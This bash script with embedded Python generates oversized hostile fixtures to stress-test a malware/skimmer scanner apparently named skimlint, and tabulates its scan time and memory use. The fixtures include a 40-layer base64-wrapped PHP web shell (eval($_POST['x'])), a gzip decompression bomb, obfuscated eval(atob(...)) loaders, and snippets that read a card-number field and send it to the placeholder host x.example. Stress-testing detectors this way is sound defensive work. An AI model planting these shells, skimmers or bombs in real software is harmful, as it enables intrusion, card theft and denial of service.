#!/usr/bin/env bash
# Generates the big hostile inputs (100 MB single line, million-deep nesting, bombs, onions…)
# and measures wall time and peak RSS of a scan of each with /usr/bin/time -v.
# Results are a Markdown table on stdout (HOSTILE.md keeps the last measured one).
#
#   scripts/hostile-bounds.sh [OUT_DIR]     # needs python3, GNU time; builds --release first
#
# Not part of `cargo test`: sizes and timings here are for a quiet machine.
set -euo pipefail
cd "$(dirname "$0")/.."
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$PWD/target}"
cargo build --release --quiet
BIN="$CARGO_TARGET_DIR/release/skimlint"
WORK="${1:-$(mktemp -d)}"
mkdir -p "$WORK"
GNU_TIME=/usr/bin/time
[ -x "$GNU_TIME" ] || { echo "GNU time (/usr/bin/time) is required" >&2; exit 2; }

python3 - "$WORK" <<'PY'
import base64, os, sys, zlib
w = sys.argv[1]
M = 1_000_000
def put(name, data):
    path = os.path.join(w, name)
    if os.path.exists(path):
        return
    mode = 'wb' if isinstance(data, bytes) else 'w'
    with open(path, mode) as f:
        f.write(data)
def nest(o, mid, c, n):
    return o * n + mid + c * n
# 100 MB of minified JavaScript on one line, a loader at the very end.
path = os.path.join(w, 'line-100mb.min.js')
if not os.path.exists(path):
    with open(path, 'w') as f:
        chunk = ''.join(f'var v{i}=function(a,b){{return a*{i}+b.length}}(1,"x{i}");' for i in range(20000))
        size = 0
        while size < 100 * M:
            f.write(chunk); size += len(chunk)
        f.write('window["ev"+"al"](atob("YWxlcnQoMSk="));')
put('deep-arrays.js', 'var a = ' + nest('[', '', ']', M) + ';\n')
put('deep-parens.js', 'var a = ' + nest('(', '1', ')', M) + ';\n')
put('deep-arrays.php', '<?php $a = ' + nest('[', '', ']', M) + ';\n')
put('deep-subscripts.php', '<?php $a' + '[0]' * M + ' = 1;\n')
put('deep-divs.html', nest('<div>', '<script>eval(atob("YWxlcnQoMSk="))</script>', '</div>', M))
put('deep-tags.twig', nest('{% if a %}', '<script>eval(atob("YWxlcnQoMSk="))</script>', '{% endif %}', 700000))
put('open-tags.liquid', '{{' * (5 * M) + '<script>eval(1)</script>')
put('decoders-10k.php', '<?php eval(' + nest('str_rot13(strrev(', "'riny(1);'", '))', 5000) + ');\n')
put('atob-10k.js', 'eval(' + nest('atob(', '"YWxlcnQoMSk="', ')', 10000) + ');\n')
code = "eval($_POST['x']);"
for _ in range(40):
    code = "eval(base64_decode('" + base64.b64encode(code.encode()).decode() + "'));"
put('onion-40.php', '<?php ' + code + '\n')
payload = 'document.write("<p>");' + 'var f = [1,2,3].map(function (x) { return x * 2; });\n' * 200000
put('base64-12mb.js', 'eval(atob("' + base64.b64encode(payload.encode()).decode() + '"));\n')
path = os.path.join(w, 'gzip-bomb-4gib.php')
if not os.path.exists(path):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    z = bytes(1 << 24); out = []
    for _ in range(256):
        out.append(c.compress(z))
    out.append(c.flush())
    put('gzip-bomb-4gib.php', "<?php eval(gzinflate(base64_decode('" + base64.b64encode(b''.join(out)).decode() + "')));\n")
read = 'var cc = document.getElementById("cc_number").value;\n'
put('member-chain.js', read + 'var z = a' + '.b' * 200000 + ';\nfetch("https://x.example/", {body: cc});\n')
put('assign-chain.js', read + ''.join(f'v{i} = v{i-1};\n' for i in range(200000, 0, -1)) + 'v0 = cc;\nfetch("https://x.example/", {body: v200000});\n')
put('iife-100k.js', nest('(function(){', 'a.push(a.shift())', '})()', 100000))
PY

echo "| input | size | extra flags | wall (s) | peak RSS (MB) | exit | reported |"
echo "|---|---|---|---:|---:|---:|---|"
measure() {
  local file="$1"; shift
  local log; log="$(mktemp)"
  local err; err="$(mktemp)"
  set +e
  "$GNU_TIME" -v "$BIN" check "$WORK/$file" --format concise "$@" >/dev/null 2>"$err"
  local code=$?
  set -e
  grep -v '^\s' "$err" | grep '^warning' | sed 's/^warning: [^:]*: //' | sort -u | paste -sd ';' > "$log" || true
  local wall rss
  wall=$(grep 'Elapsed (wall clock)' "$err" | awk '{print $NF}' | awk -F: '{ if (NF==3) print $1*3600+$2*60+$3; else print $1*60+$2 }')
  rss=$(grep 'Maximum resident set size' "$err" | awk '{printf "%.0f", $NF/1024}')
  local size; size=$(du -h --apparent-size "$WORK/$file" | cut -f1)
  echo "| $file | $size | $* | $wall | $rss | $code | $(cut -c1-160 "$log") |"
  rm -f "$log" "$err"
}
measure line-100mb.min.js
measure line-100mb.min.js --max-file-size 200000000
for f in deep-arrays.js deep-parens.js deep-arrays.php deep-subscripts.php deep-divs.html deep-tags.twig \
         open-tags.liquid decoders-10k.php atob-10k.js onion-40.php base64-12mb.js gzip-bomb-4gib.php \
         member-chain.js assign-chain.js iife-100k.js; do
  measure "$f"
done
# Everything at once, on both cores.
measure . --max-file-size 200000000
